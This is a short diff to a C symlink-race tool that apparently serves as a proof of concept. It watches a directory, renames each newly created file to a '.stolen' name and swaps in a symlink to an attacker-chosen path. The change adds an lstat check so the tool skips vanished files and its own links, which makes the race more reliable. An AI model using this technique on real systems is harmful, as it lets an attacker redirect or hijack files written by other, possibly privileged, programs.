@@ -20,6 +20,7 @@
 #include <stdlib.h>
 #include <string.h>
 #include <sys/inotify.h>
+#include <sys/stat.h>
 #include <time.h>
 #include <unistd.h>
 
@@ -78,8 +79,12 @@ int main(int argc, char **argv) {
                 if (swap && strstr(e->name, ".stolen") != NULL) {
                     continue;
                 }
-                attempts++;
                 snprintf(path, sizeof path, "%s/%s", dir, e->name);
+                struct stat st;
+                if (swap && (lstat(path, &st) != 0 || S_ISLNK(st.st_mode))) {
+                    continue; /* gone already, or the attacker's own link */
+                }
+                attempts++;
                 if (swap) {
                     snprintf(aside, sizeof aside, "%s/%s.stolen", dir, e->name);
                     if (rename(path, aside) == 0 && symlink(argv[3], path) == 0) {
